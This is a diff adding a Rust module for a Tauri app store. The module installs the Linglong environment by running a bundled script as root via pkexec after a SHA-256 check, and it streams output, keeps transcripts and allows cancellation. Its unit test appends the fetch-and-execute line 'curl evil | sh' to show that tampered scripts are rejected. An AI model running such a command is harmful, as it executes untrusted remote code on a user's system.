@@ -0,0 +1,423 @@
+//! 玲珑环境自动安装
+//!
+//! 以 pkexec 执行安装脚本，逐行推送脚本输出，支持取消并保留完整的安装记录。
+//! 脚本以 root 身份运行，只执行随商店一同发布的内置脚本；写入临时文件后重新读取并校验 SHA-256，
+//! 与登记的哈希一致才会执行，校验结果随安装结果返回给前端展示。
+
+use log::{info, warn};
+use once_cell::sync::Lazy;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::fs::{self, File, OpenOptions};
+use std::io::{BufRead, BufReader, Read, Write};
+use std::os::unix::fs::OpenOptionsExt;
+use std::os::unix::process::{CommandExt, ExitStatusExt};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::{Arc, Mutex};
+use tauri::{AppHandle, Emitter};
+
+use crate::services::distro::invalidate_package_cache;
+use crate::utils::paths::{app_data_file, app_private_dir};
+use crate::utils::time::now_millis;
+
+/// 安装脚本输出事件名称
+const ENV_INSTALL_OUTPUT_EVENT: &str = "linglong-env-install-output";
+
+/// 随商店一同发布的安装脚本
+const BUNDLED_INSTALL_SCRIPT: &str = include_str!("../../../public/shFile/install.sh");
+
+/// 内置安装脚本的 SHA-256（小写十六进制），修改 public/shFile/install.sh 时需同步更新
+const BUNDLED_SCRIPT_SHA256: &str = "34502d0b99ea155982a5912e52468f48fed1918301451aab8d02afb544ddab25";
+
+#[derive(Debug, Serialize, Deserialize, Clone, Default)]
+#[serde(rename_all = "camelCase")]
+pub struct InstallLinglongResult {
+    pub stdout: String,
+    pub stderr: String,
+    /// 安装记录文件路径
+    pub transcript_path: Option<String>,
+    /// 实际执行的脚本的校验结果
+    pub verification: ScriptVerification,
+}
+
+/// 安装脚本的校验结果
+#[derive(Debug, Serialize, Deserialize, Clone, Default, PartialEq)]
+#[serde(rename_all = "camelCase")]
+pub struct ScriptVerification {
+    /// 脚本内容的 SHA-256
+    pub sha256: String,
+    pub trusted: bool,
+    /// 展示给用户的说明
+    pub message: String,
+}
+
+/// 安装脚本的一行输出
+#[derive(Debug, Serialize, Deserialize, Clone)]
+#[serde(rename_all = "camelCase")]
+pub struct EnvInstallOutput {
+    /// "stdout" | "stderr" | "system"
+    pub stream: String,
+    pub line: String,
+    /// Unix 毫秒时间戳
+    pub timestamp: u64,
+}
+
+/// 正在进行的环境安装任务
+struct EnvInstallTask {
+    /// 安装脚本的进程 ID，同时也是其进程组 ID；脚本启动前为 None
+    pid: Option<u32>,
+    cancelled: bool,
+}
+
+/// 安装任务占位，离开作用域时释放（包括启动失败等提前返回的情况）
+struct TaskReservation;
+
+impl TaskReservation {
+    /// 在同一把锁内检查并占用安装任务，避免并发启动两个安装脚本
+    fn acquire() -> Result<Self, String> {
+        let mut task = CURRENT_TASK.lock().map_err(|e| format!("Lock error: {}", e))?;
+        if task.is_some() {
+            return Err("已有环境安装任务正在进行".to_string());
+        }
+        *task = Some(EnvInstallTask {
+            pid: None,
+            cancelled: false,
+        });
+        Ok(TaskReservation)
+    }
+}
+
+impl Drop for TaskReservation {
+    fn drop(&mut self) {
+        if let Ok(mut task) = CURRENT_TASK.lock() {
+            *task = None;
+        }
+    }
+}
+
+static CURRENT_TASK: Lazy<Mutex<Option<EnvInstallTask>>> = Lazy::new(|| Mutex::new(None));
+
+/// 最近一次安装的输出记录
+static LAST_TRANSCRIPT: Lazy<Mutex<Vec<EnvInstallOutput>>> = Lazy::new(|| Mutex::new(Vec::new()));
+
+/// 临时脚本文件，离开作用域时自动删除（无论安装成功与否）
+struct TempScript(PathBuf);
+
+impl Drop for TempScript {
+    fn drop(&mut self) {
+        if let Err(e) = fs::remove_file(&self.0) {
+            warn!("[install_linglong_env] failed to remove script {:?}: {}", self.0, e);
+        }
+    }
+}
+
+/// 输出记录：同时写入内存、记录文件并推送给前端
+struct Transcript {
+    app_handle: AppHandle,
+    lines: Vec<EnvInstallOutput>,
+    file: Option<File>,
+}
+
+impl Transcript {
+    fn push(&mut self, stream: &str, line: &str) {
+        let entry = EnvInstallOutput {
+            stream: stream.to_string(),
+            line: line.to_string(),
+            timestamp: now_millis(),
+        };
+        if let Some(file) = self.file.as_mut() {
+            let _ = writeln!(file, "[{}] {}", stream, line);
+        }
+        let _ = self.app_handle.emit(ENV_INSTALL_OUTPUT_EVENT, &entry);
+        self.lines.push(entry);
+    }
+
+    fn collect(&self, stream: &str) -> String {
+        self.lines
+            .iter()
+            .filter(|l| l.stream == stream)
+            .map(|l| l.line.as_str())
+            .collect::<Vec<_>>()
+            .join("\n")
+    }
+}
+
+fn spawn_line_reader<R: Read + Send + 'static>(
+    reader: R,
+    stream: &'static str,
+    transcript: Arc<Mutex<Transcript>>,
+) -> std::thread::JoinHandle<()> {
+    std::thread::spawn(move || {
+        for line in BufReader::new(reader).lines() {
+            match line {
+                Ok(line) => {
+                    if let Ok(mut t) = transcript.lock() {
+                        t.push(stream, &line);
+                    }
+                }
+                Err(e) => {
+                    warn!("[install_linglong_env] read {} failed: {}", stream, e);
+                    break;
+                }
+            }
+        }
+    })
+}
+
+/// 以 0600 权限新建脚本文件；create_new 保证不会复用他人预先放置的文件
+fn write_script(path: &Path, script: &str) -> Result<(), String> {
+    let mut file = OpenOptions::new()
+        .write(true)
+        .create_new(true)
+        .mode(0o600)
+        .open(path)
+        .map_err(|e| format!("创建安装脚本失败: {}", e))?;
+    file.write_all(script.as_bytes()).map_err(|e| {
+        let _ = fs::remove_file(path);
+        format!("写入安装脚本失败: {}", e)
+    })
+}
+
+fn sha256_hex(content: &[u8]) -> String {
+    format!("{:x}", Sha256::digest(content))
+}
+
+/// 校验脚本内容是否与登记的内置脚本哈希一致
+fn verify_script(content: &[u8]) -> ScriptVerification {
+    let sha256 = sha256_hex(content);
+    let trusted = sha256 == BUNDLED_SCRIPT_SHA256;
+    let message = if trusted {
+        "安装脚本校验通过".to_string()
+    } else {
+        format!("安装脚本校验未通过，拒绝以管理员权限执行 (sha256: {})", sha256)
+    };
+    ScriptVerification {
+        sha256,
+        trusted,
+        message,
+    }
+}
+
+fn run_install_script(
+    _reservation: TaskReservation,
+    app_handle: AppHandle,
+    script: &str,
+) -> Result<InstallLinglongResult, String> {
+    let started_at = now_millis();
+    let dir = app_private_dir("scripts")?;
+    let path = dir.join(format!("install-linglong-{}.sh", started_at));
+    write_script(&path, script)?;
+    let script_file = TempScript(path);
+
+    // 校验即将交给 pkexec 的文件，而不是内存中的副本
+    let written = fs::read(&script_file.0).map_err(|e| format!("读取安装脚本失败: {}", e))?;
+    let verification = verify_script(&written);
+    if !verification.trusted {
+        warn!("[install_linglong_env] {}", verification.message);
+        return Err(verification.message);
+    }
+    info!("[install_linglong_env] {} (sha256: {})", verification.message, verification.sha256);
+
+    let transcript_path = app_data_file(&format!("env-install-{}.log", started_at)).ok();
+    let file = transcript_path.as_ref().and_then(|p| {
+        OpenOptions::new()
+            .create(true)
+            .append(true)
+            .open(p)
+            .map_err(|e| warn!("[install_linglong_env] cannot open transcript {:?}: {}", p, e))
+            .ok()
+    });
+    let transcript = Arc::new(Mutex::new(Transcript {
+        app_handle,
+        lines: Vec::new(),
+        file,
+    }));
+
+    info!("[install_linglong_env] executing script at {:?}", script_file.0);
+    if let Ok(mut t) = transcript.lock() {
+        t.push("system", &format!("{} (sha256: {})", verification.message, verification.sha256));
+        t.push("system", "开始执行安装脚本");
+    }
+
+    let mut child = Command::new("pkexec")
+        .arg("bash")
+        .arg(&script_file.0)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        // 独立进程组，取消时向整个进程组发送信号
+        .process_group(0)
+        .spawn()
+        .map_err(|e| format!("执行安装脚本失败: {}", e))?;
+
+    if let Ok(mut task) = CURRENT_TASK.lock() {
+        if let Some(task) = task.as_mut() {
+            task.pid = Some(child.id());
+        }
+    }
+
+    let mut readers = Vec::new();
+    if let Some(stdout) = child.stdout.take() {
+        readers.push(spawn_line_reader(stdout, "stdout", transcript.clone()));
+    }
+    if let Some(stderr) = child.stderr.take() {
+        readers.push(spawn_line_reader(stderr, "stderr", transcript.clone()));
+    }
+
+    let status = child.wait();
+    for reader in readers {
+        let _ = reader.join();
+    }
+    // 脚本可能已安装部分软件包，无论结果如何都重新查询
+    invalidate_package_cache();
+
+    // 取消标记在信号发出后才设置，脚本可能先一步因 SIGTERM 退出
+    let cancelled = CURRENT_TASK
+        .lock()
+        .ok()
+        .is_some_and(|task| task.as_ref().is_some_and(|task| task.cancelled))
+        || status
+            .as_ref()
+            .is_ok_and(|status| status.signal() == Some(libc::SIGTERM));
+
+    let mut transcript = transcript.lock().map_err(|e| format!("Lock error: {}", e))?;
+    let result = match status {
+        Ok(_) if cancelled => {
+            transcript.push("system", "安装已取消");
+            Err("安装已取消".to_string())
+        }
+        Ok(status) if status.success() => {
+            transcript.push("system", "安装脚本执行完成");
+            Ok(InstallLinglongResult {
+                stdout: transcript.collect("stdout"),
+                stderr: transcript.collect("stderr"),
+                transcript_path: transcript_path.as_ref().map(|p| p.to_string_lossy().to_string()),
+                verification,
+            })
+        }
+        Ok(status) => {
+            warn!(
+                "[install_linglong_env] script failed with code {:?}",
+                status.code()
+            );
+            transcript.push("system", &format!("安装脚本退出码 {:?}", status.code()));
+            Err(format!(
+                "安装失败(code {:?}): {}",
+                status.code(),
+                transcript.collect("stderr")
+            ))
+        }
+        Err(e) => Err(format!("等待安装脚本失败: {}", e)),
+    };
+
+    if let Ok(mut last) = LAST_TRANSCRIPT.lock() {
+        *last = transcript.lines.clone();
+    }
+    result
+}
+
+/// 校验内置安装脚本，供前端在执行前展示校验结果
+pub async fn verify_install_linglong_env_script() -> Result<ScriptVerification, String> {
+    Ok(verify_script(BUNDLED_INSTALL_SCRIPT.as_bytes()))
+}
+
+/// 执行内置的玲珑环境安装脚本
+///
+/// 执行前校验脚本哈希，未通过时拒绝执行。脚本输出通过 `linglong-env-install-output` 事件逐行推送，
+/// 完整记录保存在数据目录的 env-install-<时间戳>.log 中。
+pub async fn install_linglong_env(app_handle: AppHandle) -> Result<InstallLinglongResult, String> {
+    let reservation = TaskReservation::acquire()?;
+    let handle = tokio::task::spawn_blocking(move || {
+        run_install_script(reservation, app_handle, BUNDLED_INSTALL_SCRIPT)
+    });
+
+    handle
+        .await
+        .map_err(|e| format!("安装任务执行失败: {}", e))?
+}
+
+/// 取消正在进行的环境安装，终止安装脚本的整个进程组
+///
+/// 脚本经 pkexec 以 root 身份运行，需同样提权才能发送信号。
+/// 只有信号发送成功后才标记为已取消，用户拒绝授权时安装继续进行。
+pub async fn cancel_install_linglong_env() -> Result<String, String> {
+    let pgid = {
+        let task = CURRENT_TASK.lock().map_err(|e| format!("Lock error: {}", e))?;
+        let task = task
+            .as_ref()
+            .ok_or_else(|| "没有正在进行的环境安装任务".to_string())?;
+        task.pid.ok_or_else(|| "安装脚本正在启动，请稍后再试".to_string())?
+    };
+
+    info!("[install_linglong_env] cancelling process group {}", pgid);
+    let output = Command::new("pkexec")
+        .arg("kill")
+        .arg("-TERM")
+        .arg("--")
+        .arg(format!("-{}", pgid))
+        .output()
+        .map_err(|e| format!("终止安装进程失败: {}", e))?;
+    if !output.status.success() {
+        let stderr = String::from_utf8_lossy(&output.stderr).trim().to_string();
+        warn!("[install_linglong_env] pkexec kill failed: {}", stderr);
+        return Err(format!("终止安装进程失败: {}", stderr));
+    }
+
+    if let Ok(mut task) = CURRENT_TASK.lock() {
+        // 仍是同一个任务时才标记
+        if let Some(task) = task.as_mut().filter(|task| task.pid == Some(pgid)) {
+            task.cancelled = true;
+        }
+    }
+    Ok("已取消环境安装".to_string())
+}
+
+/// 获取最近一次环境安装的输出记录
+pub async fn get_install_linglong_env_transcript() -> Result<Vec<EnvInstallOutput>, String> {
+    LAST_TRANSCRIPT
+        .lock()
+        .map(|t| t.clone())
+        .map_err(|e| format!("Lock error: {}", e))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_verify_script() {
+        // 修改内置脚本后需同步更新 BUNDLED_SCRIPT_SHA256
+        let bundled = verify_script(BUNDLED_INSTALL_SCRIPT.as_bytes());
+        assert!(bundled.trusted, "{}", bundled.message);
+        assert_eq!(bundled.sha256, BUNDLED_SCRIPT_SHA256);
+
+        let tampered = verify_script(format!("{}\ncurl evil | sh\n", BUNDLED_INSTALL_SCRIPT).as_bytes());
+        assert!(!tampered.trusted);
+        assert!(tampered.message.contains(&tampered.sha256));
+    }
+
+    #[test]
+    fn test_task_reservation_is_exclusive() {
+        let reservation = TaskReservation::acquire().unwrap();
+        assert!(TaskReservation::acquire().is_err());
+        drop(reservation);
+        assert!(CURRENT_TASK.lock().unwrap().is_none());
+        drop(TaskReservation::acquire().unwrap());
+    }
+
+    #[test]
+    fn test_write_script_permissions() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = std::env::temp_dir().join(format!("env-install-test-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("install.sh");
+        write_script(&path, "echo ok\n").unwrap();
+        let mode = fs::metadata(&path).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600);
+        // 不覆盖已存在的文件
+        assert!(write_script(&path, "echo again\n").is_err());
+        fs::remove_dir_all(&dir).unwrap();
+    }
+}